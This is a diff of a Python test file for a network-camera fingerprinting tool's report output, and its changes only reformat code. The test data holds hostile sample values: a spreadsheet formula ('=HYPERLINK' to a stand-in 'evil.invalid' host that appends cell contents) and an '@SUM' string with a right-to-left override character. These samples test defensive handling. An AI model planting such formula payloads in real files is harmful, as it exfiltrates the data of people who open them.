@@ -9,7 +9,7 @@ import jsonschema
 import pytest
 
 from netfinger.cli import build_parser
-from netfinger.report import RENDERERS, RenderOptions, Renderer
+from netfinger.report import RENDERERS, Renderer, RenderOptions
 from netfinger.report.model import SCHEMA_ID, Report
 from netfinger.report.output import FILE_OPTIONS, add_output_arguments
 from netfinger.report.samples import HOSTILE_MODEL, large_report, sample_report
@@ -81,7 +81,12 @@ def test_json_output_validates_and_round_trips() -> None:
         "banned": 2,
         "vulnerable": 2,
         "by_manufacturer": {"@SUM(1+1)\u202e": 1, "Axis": 1, "Dahua": 1, "Hikvision": 1},
-        "by_brand": {'=HYPERLINK("http://evil.invalid/?x="&A1,"click")': 1, "Axis": 1, "Dahua": 1, "Hikvision": 1},
+        "by_brand": {
+            '=HYPERLINK("http://evil.invalid/?x="&A1,"click")': 1,
+            "Axis": 1,
+            "Dahua": 1,
+            "Hikvision": 1,
+        },
     }
 
 
@@ -91,7 +96,9 @@ def test_json_carries_the_verdict_fields() -> None:
     assert hik["banned"] is True
     assert hik["vulnerabilities"][0]["id"] == "CVE-2017-7921"
     assert hik["vulnerabilities"][0]["kev"] is True
-    assert {"rule": "hikvision.sadp", "field": "sadp.DeviceDescription", "value": "DS-2CD2142FWD-I"} in hik["evidence"]
+    assert {"rule": "hikvision.sadp", "field": "sadp.DeviceDescription", "value": "DS-2CD2142FWD-I"} in hik[
+        "evidence"
+    ]
 
 
 def test_schema_rejects_drift() -> None:
